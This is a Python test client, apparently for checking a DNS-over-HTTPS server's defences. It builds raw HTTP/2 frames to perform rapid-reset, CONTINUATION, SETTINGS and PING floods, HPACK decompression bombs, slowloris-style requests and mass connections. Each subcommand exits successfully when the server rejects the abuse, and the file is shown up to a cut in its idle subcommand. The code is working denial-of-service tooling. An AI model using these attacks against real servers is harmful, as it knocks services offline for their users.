#!/usr/bin/env python3
"""h2_abuse.py: a DoH client (RFC 8484) that does what curl, kdig and h2load will not:
open more streams than allowed, reset them in a loop, flood CONTINUATION, SETTINGS and
PING frames, blow up HPACK, send a request one byte a second, and hold connections open.

It speaks HTTP/2 (RFC 9113) in raw frames (struct and the hpack package, Debian's
python3-hpack, which comes with python3-h2): the h2 package refuses to misbehave. Run it
with /usr/bin/python3.

    h2_abuse.py [--host 127.0.0.1] --port P (--ca CA.pem [--sni NAME] | --plain)
                [--path /dns-query] [--name NAME] [--timeout S] [--source ADDR]
                [--header 'name: value']... SUBCOMMAND [N] [options]

Transport: TLS with ALPN "h2" (or "http/1.1" for --proto h1), verified against --ca for
--sni (default upstream.test); or --plain: cleartext TCP, HTTP/2 with prior knowledge
(RFC 9113 §3.3) or HTTP/1.1. --source binds the client to that local address.

Subcommands (each prints ONE result line that starts with its name, then key=value
fields; diagnostics go to stderr with -v). Every wait is bounded by --timeout (default
10 s), and an alarm at --timeout + 20 s ends the process whatever happens.

  get [NAME]          one request (--method GET|POST, --id ID, --padding): status, the
                      content type and length, cache-control, the DNS ID, rcode, answer
                      count and body length.  exit 0 iff status 200 with a DNS answer.
  streams N           N GET streams (distinct names qI.NAME) sent in one write right after
                      the preface, before the server's SETTINGS is read (a limit not yet
                      acknowledged is refused with REFUSED_STREAM, RFC 9113 §5.1.2);
                      --ack-settings first reads and acknowledges the server's SETTINGS
                      (then exceeding the limit is a protocol error).  Counts 200 answers
                      (ok, and valid: a NOERROR answer with the ID and name sent on that
                      stream; --id ID, --distinct-ids: ID+i on stream i), REFUSED_STREAM
                      (refused), other resets, other statuses, streams above GOAWAY's last
                      stream ID (dropped), streams unanswered when the connection closed or
                      got a GOAWAY with an error (lost), and streams left hanging on a live
                      connection (unanswered).  exit 0 iff none was left hanging.
  rapid-reset N       HEADERS then RST_STREAM(CANCEL), N times, in batches of 50, looking
                      for GOAWAY or a close between batches.  exit 0 iff GOAWAY or a close
                      came (after= says after how many resets were sent).
  continuation N      HEADERS (stream 1, no END_HEADERS) and N CONTINUATION frames of junk
                      header fields (--frame-size bytes each, 0: empty frames); the last one
                      ends the header block unless --no-finish.  exit 0 iff the request was
                      rejected (GOAWAY, close, RST_STREAM or a 4xx), never answered 200.
  hpack-bomb          --mode table (default): one --size byte header (default 4000) put in
                      the dynamic table, then referenced --refs times (default 4000: a
                      header list of 16 MB from an 8 KB block); --mode list: one literal
                      header of --size bytes (default 20000), beyond the 16 KB limit;
                      --mode resize: a dynamic table size update to 2^30 (RFC 7541 §4.2:
                      above SETTINGS_HEADER_TABLE_SIZE, a COMPRESSION_ERROR).  exit 0 iff
                      rejected as for continuation.
  slow                a valid request sent one byte each --interval seconds (default 1);
                      --proto h2 (default) or h1; --stage request (default: the TLS
                      handshake at full speed, then the request) or handshake (the TLS
                      ClientHello itself, byte by byte).  Reports when the server closed
                      (after_ms, from the TCP connect), and when its first byte came
                      (response_ms, -1: none) and what it was (response: an HTTP/1.1
                      status, N-bytes, or none).  exit 0 iff the server closed before
                      the request was complete.
  headers N           a GET with N extra header fields (x-test-NNNN: --value-size bytes);
                      --proto h2 or h1.  Reports the status, or the reset/GOAWAY/close.
                      exit 0 iff some outcome came (the test asserts which).
  settings-flood N    after the handshake, N SETTINGS frames sent without reading, in
  ping-flood N        batches of --batch (500); or N PING frames.  --read-acks reads each
                      batch's acknowledgements before the next (a fast client that reads,
                      for a server's rate limit).  Then the answers are drained (acks
                      counted) and, if the connection is still open (no GOAWAY, no close),
                      one GET is sent: after=200, another status, or ended.  exit 0 iff GOAWAY
                      or a close came, or the GET after the flood got 200 (after=200).
  idle                one request, then wait (up to --timeout) for the server to end the
                      idle connection; --proto h2 or h1.  exit 0 iff it did (after_ms from
                      the answer).
  hold                one request, then (having created --ready-file) stay on the connection
                      until --go-file exists, then a second request on it: both statuses and
                      the certificate's CN the connection saw.  exit 0 iff both got 200.
  conns N             N connections opened at once (a thread each) and kept open, each
                      with one request (per-connection wait --conn-timeout, default 2 s):
                      how many were answered 200 (ok), with another status (status_other),
                      closed or refused (closed), or got nothing (silent).  exit 0 iff at
                      least one was answered.

Result fields: goaway=no|CODE_NAME (the GOAWAY error code), closed=yes|no (the server
closed the connection or reset it), status=none|NNN, rst=no|CODE_NAME.
"""

import argparse
import base64
import os
import signal
import socket
import ssl
import struct
import sys
import time

import hpack

# Frame types and flags (RFC 9113 §6)
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIO = 0x1, 0x1, 0x4, 0x8, 0x20
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_FRAME = 16384  # the peer's SETTINGS_MAX_FRAME_SIZE until it says otherwise; we never send more

VERBOSE = False
ARGS = None


def log(*a):
    if VERBOSE:
        print("#", *a, file=sys.stderr, flush=True)


def errname(code):
    return ERRORS[code] if code < len(ERRORS) else "0x%x" % code


def result(line, ok):
    print(line, flush=True)
    sys.exit(0 if ok else 1)


# ---------------------------------------------------------------------------------------
# DNS

def dns_query(name, qid=0, qtype=1, padding=False):
    """A query for NAME (RD set); with padding, an OPT record whose padding option (RFC
    7830) brings the message to a multiple of 128 bytes (RFC 8467 §4.1)."""
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 1 if padding else 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack("!HH", qtype, 1)
    if padding:
        base = len(q) + 11 + 4  # OPT header and the padding option's header
        pad = (128 - base % 128) % 128
        q += b"\x00" + struct.pack("!HHIH", 41, 1232, 0, 4 + pad) + struct.pack("!HH", 12, pad) + bytes(pad)
    return q


def dns_summary(body):
    """(id, rcode name, ancount) of a DNS message, or None if it is not one."""
    if len(body) < 12:
        return None
    qid, flags, _qd, an = struct.unpack("!HHHH", body[:8])
    if not flags & 0x8000:
        return None
    rc = flags & 0xF
    names = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
    return qid, names.get(rc, str(rc)), an


def dns_qname(body):
    """The question's name (lower case, no final dot) of a DNS message, or None."""
    try:
        o, labels = 12, []
        while body[o]:
            if body[o] & 0xC0:
                return None
            labels.append(body[o + 1:o + 1 + body[o]].decode("ascii").lower())
            o += 1 + body[o]
        return ".".join(labels)
    except (IndexError, UnicodeDecodeError):
        return None


def b64url(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def get_path(name, qid=0):
    return "%s?dns=%s" % (ARGS.path, b64url(dns_query(name, qid)))


# ---------------------------------------------------------------------------------------
# Transport

class Conn:
    """A TCP or TLS connection with bounded sends and receives. closed is set (with the
    time) the first time the peer is seen to have closed or reset it. When a send fails
    that way, what the peer had sent before (a GOAWAY, a 408) is read at once and kept for
    recv, which hands it out before it reports the close."""

    def __init__(self, sock, raw):
        self.sock = sock  # the TLS socket, or the TCP one
        self.raw = raw    # the TCP socket
        self.closed = False
        self.closed_at = None
        self.rbuf = b""

    def _mark_closed(self, why):
        if not self.closed:
            log("connection closed:", why)
            self.closed = True
            self.closed_at = time.monotonic()

    def send(self, data, timeout=None):
        """Send all of data. Returns 'ok', 'closed' or 'stalled' (the peer stopped reading
        for timeout seconds)."""
        if self.closed:
            return "closed"
        self.sock.settimeout(ARGS.timeout if timeout is None else timeout)
        try:
            self.sock.sendall(data)
            return "ok"
        except (socket.timeout, ssl.SSLWantWriteError):
            return "stalled"
        except (OSError, ssl.SSLError) as e:
            self._drain()
            self._mark_closed("send: %r" % e)
            return "closed"

    def _drain(self):
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            self.sock.settimeout(max(end - time.monotonic(), 0.001))
            try:
                d = self.sock.recv(65536)
            except (OSError, ssl.SSLError):
                return
            if not d:
                return
            self.rbuf += d

    def recv(self, timeout):
        """Bytes read within timeout; b'' if nothing came; None once the peer closed."""
        if self.rbuf:
            d, self.rbuf = self.rbuf, b""
            return d
        if self.closed:
            return None
        if isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            timeout = max(timeout, 0.001)
        self.sock.settimeout(max(timeout, 0.0001))
        try:
            d = self.sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return b""
        except (OSError, ssl.SSLError) as e:
            self._mark_closed("recv: %r" % e)
            return None
        if not d:
            self._mark_closed("EOF")
            return None
        return d

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def tcp_connect(timeout=None):
    s = socket.socket(socket.AF_INET6 if ":" in ARGS.host else socket.AF_INET, socket.SOCK_STREAM)
    if ARGS.source:
        s.bind((ARGS.source, 0))
    s.settimeout(ARGS.timeout if timeout is None else timeout)
    s.connect((ARGS.host, ARGS.port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def tls_context(alpn):
    ctx = ssl.create_default_context(cafile=ARGS.ca)
    ctx.set_alpn_protocols([alpn])
    return ctx


def connect(proto="h2", timeout=None):
    """A connection ready for PROTO (h2 or h1): TLS with that ALPN, or cleartext."""
    raw = tcp_connect(timeout)
    if ARGS.plain:
        return Conn(raw, raw)
    alpn = "h2" if proto == "h2" else "http/1.1"
    s = tls_context(alpn).wrap_socket(raw, server_hostname=ARGS.sni)
    got = s.selected_alpn_protocol()
    if got != alpn:
        raise ConnectionError("ALPN agreed %r, not %r" % (got, alpn))
    c = Conn(s, raw)
    return c


# ---------------------------------------------------------------------------------------
# HTTP/2 in raw frames

def frame(ftype, flags, sid, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack("!I", sid & 0x7FFFFFFF) + payload


def settings_frame(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack("!HI", k, v) for k, v in pairs))


def rst_frame(sid, code):
    return frame(RST_STREAM, 0, sid, struct.pack("!I", code))


def window_update(sid, inc):
    return frame(WINDOW_UPDATE, 0, sid, struct.pack("!I", inc))


def header_frames(sid, block, end_stream):
    """HEADERS plus CONTINUATION frames carrying block, none above MAX_FRAME."""
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = b""
    for i, c in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, c)
        else:
            out += frame(CONTINUATION, flags, sid, c)
    return out


class Stream:
    def __init__(self, sid):
        self.sid = sid
        self.headers = []
        self.status = None
        self.body = b""
        self.ended = False
        self.rst = None

    def header(self, name):
        for k, v in self.headers:
            if k == name:
                return v
        return None

    @property
    def done(self):
        return self.ended or self.rst is not None


class H2:
    """One client connection: frames out, frames in, with the bookkeeping the
    subcommands report. SETTINGS and PING are acknowledged while auto_ack is set."""

    def __init__(self, conn):
        self.c = conn
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder(max_header_list_size=1 << 20)
        self.buf = b""
        self.streams = {}
        self.next_sid = 1
        self.goaway = None  # (last stream id, error code, debug data, time)
        self.server_settings = None
        self.settings_acks = 0
        self.ping_acks = 0
        self.auto_ack = True
        self.hblock = None  # (sid, bytes) of a header block in progress
        self.frames_in = 0

    # --- sending
    def preface(self, extra=b""):
        """The connection preface: our SETTINGS (push off, large windows so that answers
        are never held back by flow control) and a connection WINDOW_UPDATE."""
        return self.c.send(PREFACE + settings_frame([(2, 0), (4, 1 << 20)]) + window_update(0, 1 << 24) + extra)

    def request_block(self, path, method="GET", extra=()):
        scheme = "http" if ARGS.plain else "https"
        hdrs = [(":method", method), (":scheme", scheme), (":authority", ARGS.authority), (":path", path),
                ("accept", "application/dns-message")]
        hdrs += [(k, v) for k, v in ARGS.header_pairs]
        hdrs += list(extra)
        return self.enc.encode(hdrs)

    def new_stream(self):
        sid = self.next_sid
        self.next_sid += 2
        self.streams[sid] = Stream(sid)
        return sid

    def get_frames(self, name, qid=0):
        sid = self.new_stream()
        return sid, header_frames(sid, self.request_block(get_path(name, qid)), True)

    def post_frames(self, body, extra=()):
        sid = self.new_stream()
        block = self.request_block(ARGS.path, "POST", [("content-type", "application/dns-message"),
                                                        ("content-length", str(len(body)))] + list(extra))
        return sid, header_frames(sid, block, False) + frame(DATA, END_STREAM, sid, body)

    # --- receiving
    def _handle(self, ftype, flags, sid, payload):
        self.frames_in += 1
        if ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                self.server_settings = {struct.unpack("!H", payload[i:i + 2])[0]: struct.unpack("!I", payload[i + 2:i + 6])[0]
                                        for i in range(0, len(payload) - 5, 6)}
                log("server SETTINGS", self.server_settings)
                if self.auto_ack:
                    self.c.send(settings_frame(ack=True))
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
            elif self.auto_ack:
                self.c.send(frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY:
            last, code = struct.unpack("!II", payload[:8])
            if self.goaway is None:
                self.goaway = (last & 0x7FFFFFFF, code, payload[8:], time.monotonic())
            log("GOAWAY last=%d %s %r" % (last & 0x7FFFFFFF, errname(code), payload[8:80]))
        elif ftype == RST_STREAM:
            code = struct.unpack("!I", payload[:4])[0]
            st = self.streams.setdefault(sid, Stream(sid))
            st.rst = code
            log("RST_STREAM %d %s" % (sid, errname(code)))
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                if flags & PADDED:
                    padlen = payload[0]
                    payload = payload[1:len(payload) - padlen]
                if flags & PRIO:
                    payload = payload[5:]
                self.hblock = (sid, payload, flags & END_STREAM)
            elif self.hblock:
                self.hblock = (self.hblock[0], self.hblock[1] + payload, self.hblock[2])
            if flags & END_HEADERS and self.hblock:
                hsid, block, es = self.hblock
                self.hblock = None
                st = self.streams.setdefault(hsid, Stream(hsid))
                hdrs = self.dec.decode(block)
                st.headers += hdrs
                for k, v in hdrs:
                    if k == ":status" and (st.status is None or st.status.startswith("1")):
                        st.status = v
                if es:
                    st.ended = True
        elif ftype == DATA:
            if flags & PADDED:
                padlen = payload[0]
                payload = payload[1:len(payload) - padlen]
            st = self.streams.setdefault(sid, Stream(sid))
            st.body += payload
            if flags & END_STREAM:
                st.ended = True
            if payload and ARGS.window_updates:
                self.c.send(window_update(0, len(payload)) + (b"" if st.ended else window_update(sid, len(payload))))
        # PRIORITY, WINDOW_UPDATE, PUSH_PROMISE (push is off) and unknown types: ignored.

    def pump(self, timeout, until=None):
        """Read and handle frames until until() is true, the connection closes, or
        timeout seconds pass. Returns until()'s last value (False without one)."""
        end = time.monotonic() + timeout
        while True:
            if until and until():
                return True
            left = end - time.monotonic()
            d = self.c.recv(max(left, 0))
            if d is None:
                return bool(until and until())
            if not d:
                if left <= 0:
                    return bool(until and until())
                continue
            self.buf += d
            while len(self.buf) >= 9:
                ln = struct.unpack("!I", b"\0" + self.buf[:3])[0]
                if len(self.buf) < 9 + ln:
                    break
                ftype, flags = self.buf[3], self.buf[4]
                sid = struct.unpack("!I", self.buf[5:9])[0] & 0x7FFFFFFF
                payload = self.buf[9:9 + ln]
                self.buf = self.buf[9 + ln:]
                self._handle(ftype, flags, sid, payload)

    def ended(self):
        return self.goaway is not None or self.c.closed

    def fields(self):
        g = "no" if self.goaway is None else errname(self.goaway[1])
        return "goaway=%s closed=%s" % (g, "yes" if self.c.closed else "no")


def open_h2(send_preface=True, timeout=None):
    c = connect("h2", timeout)
    h = H2(c)
    if send_preface:
        h.preface()
    return h


def stream_fields(st):
    return "status=%s rst=%s" % (st.status or "none", "no" if st.rst is None else errname(st.rst))


# ---------------------------------------------------------------------------------------
# HTTP/1.1

def h1_request(path, method="GET", extra=(), body=b""):
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: %s" % ARGS.authority, "Accept: application/dns-message"]
    lines += ["%s: %s" % kv for kv in ARGS.header_pairs] + ["%s: %s" % kv for kv in extra]
    if body or method == "POST":
        lines += ["Content-Type: application/dns-message", "Content-Length: %d" % len(body)]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def h1_read_response(c, timeout):
    """(status or None, headers dict, body) of one response, read within timeout."""
    end = time.monotonic() + timeout
    buf = b""
    while b"\r\n\r\n" not in buf:
        left = end - time.monotonic()
        if left <= 0:
            return None, {}, b""
        d = c.recv(left)
        if d is None:
            break
        buf += d
    if b"\r\n\r\n" not in buf:
        return (buf.split(b" ")[1].decode() if buf.startswith(b"HTTP/1.") else None), {}, b""
    head, body = buf.split(b"\r\n\r\n", 1)
    lines = head.decode("latin-1").split("\r\n")
    status = lines[0].split(" ")[1] if len(lines[0].split(" ")) > 1 else None
    hdrs = {}
    for l in lines[1:]:
        if ":" in l:
            k, v = l.split(":", 1)
            hdrs[k.strip().lower()] = v.strip()
    want = int(hdrs.get("content-length", "0") or 0)
    while len(body) < want:
        left = end - time.monotonic()
        if left <= 0:
            break
        d = c.recv(left)
        if d is None:
            break
        body += d
    return status, hdrs, body


# ---------------------------------------------------------------------------------------
# Subcommands

def cmd_get(a):
    name = a.qname or ("get." + ARGS.name)
    q = dns_query(name, a.id, padding=a.padding)
    h = open_h2()
    if a.method == "GET":
        sid = h.new_stream()
        h.c.send(header_frames(sid, h.request_block("%s?dns=%s" % (ARGS.path, b64url(q))), True))
    else:
        sid, data = h.post_frames(q)
        h.c.send(data)
    st = h.streams[sid]
    h.pump(ARGS.timeout, lambda: st.done or h.ended())
    s = dns_summary(st.body) if st.status == "200" else None
    line = "get %s ctype=%s clen=%s cache=%s len=%d dns=%s %s" % (
        stream_fields(st), st.header("content-type"), st.header("content-length"),
        (st.header("cache-control") or "none").replace(" ", ""), len(st.body),
        "no" if s is None else "id=%d,rcode=%s,an=%d" % s, h.fields())
    result(line, st.status == "200" and s is not None)


def cmd_streams(a):
    n = a.n
    h = open_h2(send_preface=False)
    if a.ack_settings:
        h.preface()
        h.pump(ARGS.timeout, lambda: h.server_settings is not None and h.settings_acks > 0)
        out = b""
    else:
        out = PREFACE + settings_frame([(2, 0), (4, 1 << 20)]) + window_update(0, 1 << 24)
    sids = []
    want = {}  # stream: (ID, name) its answer must carry
    for i in range(n):
        qid = (a.id + i) & 0xFFFF if a.distinct_ids else a.id
        name = "q%d.%s" % (i, ARGS.name)
        sid, data = h.get_frames(name, qid=qid)
        sids.append(sid)
        want[sid] = (qid, name.lower().rstrip("."))
        out += data
    t0 = time.monotonic()
    h.c.send(out)

    def settled():
        for sid in sids:
            st = h.streams[sid]
            if not st.done and not (h.goaway and sid > h.goaway[0]):
                return False
        return True

    h.pump(ARGS.timeout, lambda: settled() or h.c.closed)
    ms = int((time.monotonic() - t0) * 1000)
    ok = valid = refused = rst_other = other = unanswered = dropped = lost = 0
    for sid in sids:
        st = h.streams[sid]
        if st.status == "200" and st.ended:
            ok += 1
            s = dns_summary(st.body)
            if s and s[0] == want[sid][0] and dns_qname(st.body) == want[sid][1] and s[1] == "NOERROR" and s[2] >= 1:
                valid += 1
        elif st.rst == 7:
            refused += 1
        elif st.rst is not None:
            rst_other += 1
        elif st.status is not None:
            other += 1
        elif h.goaway and sid > h.goaway[0]:
            dropped += 1
        elif h.c.closed or (h.goaway and h.goaway[1] != 0):
            lost += 1
        else:
            unanswered += 1
    smax = (h.server_settings or {}).get(3)
    line = "streams sent=%d ok=%d valid=%d refused=%d rst_other=%d status_other=%d dropped=%d lost=%d unanswered=%d max_streams=%s %s ms=%d" % (
        n, ok, valid, refused, rst_other, other, dropped, lost, unanswered, smax, h.fields(), ms)
    result(line, unanswered == 0)


def _batches(h, frames_iter, batch, what):
    """Send frames in batches, reading (without blocking) between them to see GOAWAY or
    a close. Returns how many items were sent before the connection ended."""
    sent = 0
    for chunk in frames_iter:
        r = h.c.send(b"".join(chunk), timeout=2.0)
        if r != "ok":
            log("%s: send %s after %d" % (what, r, sent))
            if r == "stalled":
                # The server stopped reading: see whether it is ending the connection.
                h.pump(1.0, h.ended)
            break
        sent += len(chunk)
        h.pump(0, h.ended)
        if h.ended():
            break
    return sent


def cmd_rapid_reset(a):
    n = a.n
    h = open_h2()
    h.pump(ARGS.timeout, lambda: h.server_settings is not None or h.ended())
    path = get_path("rr." + ARGS.name)
    t0 = time.monotonic()

    def gen():
        i = 0
        while i < n:
            chunk = []
            for _ in range(min(50, n - i)):
                p = get_path("r%d.rr.%s" % (i, ARGS.name)) if a.distinct else path
                sid = h.new_stream()
                chunk.append(header_frames(sid, h.request_block(p), True) + rst_frame(sid, 8))
                i += 1
            yield chunk

    sent = _batches(h, gen(), 50, "rapid-reset")
    if not h.ended():
        h.pump(min(ARGS.timeout, 3.0), h.ended)
    ms = int((time.monotonic() - t0) * 1000)
    answered = sum(1 for st in h.streams.values() if st.status)
    last = h.goaway[0] if h.goaway else "none"
    line = "rapid-reset sent=%d/%d %s last_stream=%s answered=%d ms=%d" % (sent, n, h.fields(), last, answered, ms)
    result(line, h.ended())


def junk_block(size, i):
    """Header fields (literal without indexing, new name) filling about size bytes."""
    out = b""
    k = 0
    while len(out) < size:
        name = b"x-junk-%d-%d" % (i, k)
        vlen = max(1, min(100, size - len(out) - len(name) - 3))
        out += b"\x00" + bytes([len(name)]) + name + bytes([vlen]) + b"j" * vlen
        k += 1
    return out


def _rejected(h, st):
    return h.ended() or st.rst is not None or (st.status is not None and st.done)


def cmd_continuation(a):
    n = a.n
    h = open_h2()
    h.pump(ARGS.timeout, lambda: h.server_settings is not None or h.ended())
    sid = h.new_stream()
    st = h.streams[sid]
    t0 = time.monotonic()
    first = frame(HEADERS, END_STREAM, sid, h.request_block(get_path("cont." + ARGS.name)))

    def gen():
        yield [first]
        i = 0
        while i < n:
            chunk = []
            for _ in range(min(100, n - i)):
                last = i == n - 1 and a.finish
                chunk.append(frame(CONTINUATION, END_HEADERS if last else 0, sid, junk_block(a.frame_size, i) if a.frame_size else b""))
                i += 1
            yield chunk

    sent = _batches(h, gen(), 100, "continuation") - 1
    h.pump(min(ARGS.timeout, 5.0), lambda: _rejected(h, st))
    ms = int((time.monotonic() - t0) * 1000)
    rejected = h.ended() or st.rst is not None or (st.status is not None and st.status.startswith("4"))
    line = "continuation sent=%d/%d frame_size=%d %s %s ms=%d" % (max(sent, 0), n, a.frame_size, stream_fields(st), h.fields(), ms)
    result(line, rejected and st.status != "200")


def hpack_int(value, prefix_bits, first):
    """RFC 7541 §5.1 integer with the given prefix, first byte's high bits in first."""
    maxp = (1 << prefix_bits) - 1
    if value < maxp:
        return bytes([first | value])
    out = [first | maxp]
    value -= maxp
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(b):
    return hpack_int(len(b), 7, 0) + b


def cmd_hpack_bomb(a):
    h = open_h2()
    h.pump(ARGS.timeout, lambda: h.server_settings is not None or h.ended())
    sid = h.new_stream()
    st = h.streams[sid]
    scheme = 0x86 if ARGS.plain else 0x87
    # :method GET, :scheme, :path (literal, indexed name 4), :authority (indexed name 1).
    base = bytes([0x82, scheme]) + hpack_int(4, 4, 0x00) + hpack_str(get_path("bomb." + ARGS.name).encode()) + \
        hpack_int(1, 4, 0x00) + hpack_str(ARGS.authority.encode())
    if a.mode == "table":
        size = a.size or 4000
        refs = a.refs
        # Literal with incremental indexing, new name (RFC 7541 §6.2.1): it becomes dynamic
        # entry 62, then each 0xbe byte is that whole field again (§6.1).
        block = base + b"\x40" + hpack_str(b"x-bomb") + hpack_str(b"b" * size) + bytes([0x80 | 62]) * refs
        what = "refs=%d size=%d decoded=%d" % (refs, size, (refs + 1) * (size + 6 + 32))
    elif a.mode == "list":
        size = a.size or 20000
        block = base + b"\x00" + hpack_str(b"x-big") + hpack_str(b"l" * size)
        what = "size=%d" % size
    else:  # resize: a dynamic table size update (§6.3) to 2^30 at the start of the block
        block = hpack_int(1 << 30, 5, 0x20) + base
        what = "table_size=%d" % (1 << 30)
    t0 = time.monotonic()
    h.c.send(header_frames(sid, block, True))
    h.pump(ARGS.timeout, lambda: _rejected(h, st))
    ms = int((time.monotonic() - t0) * 1000)
    rejected = h.ended() or st.rst is not None or (st.status is not None and st.status.startswith("4"))
    line = "hpack-bomb mode=%s %s block=%d %s %s ms=%d" % (a.mode, what, len(block), stream_fields(st), h.fields(), ms)
    result(line, rejected and st.status != "200")


def cmd_headers(a):
    n = a.n
    extra = [("x-test-%04d" % i, ("v%0" + str(max(a.value_size - 1, 0)) + "d") % i if a.value_size > 1 else "v") for i in range(n)]
    if a.proto == "h1":
        c = connect("h1")
        c.send(h1_request(get_path("headers." + ARGS.name), extra=extra))
        status, hdrs, body = h1_read_response(c, ARGS.timeout)
        if status is None and not c.closed:
            c.recv(0.2)
        line = "headers proto=h1 n=%d status=%s closed=%s" % (n, status or "none", "yes" if c.closed else "no")
        result(line, status is not None or c.closed)
    h = open_h2()
    sid = h.new_stream()
    st = h.streams[sid]
    block = h.request_block(get_path("headers." + ARGS.name), extra=extra)
    h.c.send(header_frames(sid, block, True))
    h.pump(ARGS.timeout, lambda: st.done or h.ended())
    line = "headers proto=h2 n=%d block=%d %s %s" % (n, len(block), stream_fields(st), h.fields())
    result(line, st.done or h.ended())


def client_hello():
    """The bytes of a TLS ClientHello for ARGS.sni with ALPN h2 (and the SSLObject that
    made it, to go on with if the server answers)."""
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = tls_context("h2").wrap_bio(inc, out, server_hostname=ARGS.sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def cmd_slow(a):
    t0 = time.monotonic()  # the server's clock starts at the TCP connection
    if a.stage == "handshake":
        if ARGS.plain:
            result("slow error=--stage-handshake-needs-TLS", False)
        raw = tcp_connect()
        c = Conn(raw, raw)
        data = client_hello()
    else:
        c = connect(a.proto)
        if a.proto == "h1":
            data = h1_request(get_path("slow." + ARGS.name))
        else:
            h = H2(c)
            sid = h.new_stream()
            data = PREFACE + settings_frame([(2, 0)]) + header_frames(sid, h.request_block(get_path("slow." + ARGS.name)), True)
    sent = 0
    got = b""
    first = None  # when the first byte from the server came
    end = t0 + ARGS.timeout
    while sent < len(data) and not c.closed and time.monotonic() < end:
        if c.send(data[sent:sent + 1]) != "ok":
            break
        sent += 1
        wait_end = time.monotonic() + a.interval
        while not c.closed and time.monotonic() < min(wait_end, end):
            d = c.recv(min(wait_end, end) - time.monotonic())
            if d:
                first = first or time.monotonic()
                got += d
    complete = sent == len(data)
    if complete:
        # The request is whole: wait (bounded) for the answer or the close.
        while not c.closed and time.monotonic() < end:
            d = c.recv(end - time.monotonic())
            if d:
                first = first or time.monotonic()
                got += d
                if a.stage == "request" and a.proto == "h1" and b"\r\n\r\n" in got:
                    break
                if a.stage == "request" and a.proto == "h2" and b"application/dns-message" in got:
                    break
    after = int(((c.closed_at or time.monotonic()) - t0) * 1000)
    resp = "none"
    if got.startswith(b"HTTP/1."):
        resp = got.split(b" ")[1].decode()
    elif got:
        resp = "%d-bytes" % len(got)
    first_ms = int((first - t0) * 1000) if first else -1
    line = "slow proto=%s stage=%s closed=%s after_ms=%d sent=%d/%d response_ms=%d response=%s" % (
        "tls" if a.stage == "handshake" else a.proto, a.stage, "yes" if c.closed else "no", after, sent, len(data),
        first_ms, resp)
    result(line, c.closed and not complete)


def cmd_flood(a, kind):
    n = a.n
    h = open_h2()
    h.pump(ARGS.timeout, lambda: (h.server_settings is not None and h.settings_acks > 0) or h.ended())
    acks0 = h.settings_acks
    t0 = time.monotonic()

    batch = a.batch

    def gen():
        i = 0
        while i < n:
            k = min(batch, n - i)
            if kind == "settings":
                yield [settings_frame([(4, 1 << 20)])] * k
            else:
                yield [frame(PING, 0, 0, struct.pack("!Q", i + j)) for j in range(k)]
            i += k

    # Without --read-acks nothing is read between batches: the attack is a client that
    # does not read the acknowledgements. With it, each batch's are read before the next
    # (a fast client that reads: what the server's own rate limit is for).
    total = lambda: (h.settings_acks - acks0) if kind == "settings" else h.ping_acks
    sent = 0
    stalled = False
    for chunk in gen():
        r = h.c.send(b"".join(chunk), timeout=2.0)
        if r != "ok":
            stalled = r == "stalled"
            break
        sent += len(chunk)
        if a.read_acks:
            h.pump(2.0, lambda: h.ended() or total() >= sent)
            if h.ended():
                break
    # Drain: read until the acks stop coming for a second, or the connection ends.
    end = time.monotonic() + ARGS.timeout
    while not h.ended() and time.monotonic() < end:
        before = (total(), h.frames_in)
        h.pump(1.0, lambda: h.ended() or total() >= sent)
        if total() >= sent or (total(), h.frames_in) == before:
            break
    after = "ended"
    if not h.ended():
        sid, data = h.get_frames("after-%s.%s" % (kind, ARGS.name))
        h.c.send(data)
        st = h.streams[sid]
        h.pump(ARGS.timeout, lambda: st.done or h.ended())
        after = st.status or ("rst-" + errname(st.rst) if st.rst is not None else "none")
        if h.ended() and after == "none":
            after = "ended"
    ms = int((time.monotonic() - t0) * 1000)
    line = "%s-flood sent=%d/%d acks=%d stalled=%s %s after=%s ms=%d" % (
        kind, sent, n, total(), "yes" if stalled else "no", h.fields(), after, ms)
    result(line, h.ended() or after == "200")


def cmd_idle(a):
    if a.proto == "h1":
        c = connect("h1")
        c.send(h1_request(get_path("idle." + ARGS.name)))
        status, _, _ = h1_read_response(c, ARGS.timeout)
        t = time.monotonic()
        end = t + ARGS.timeout
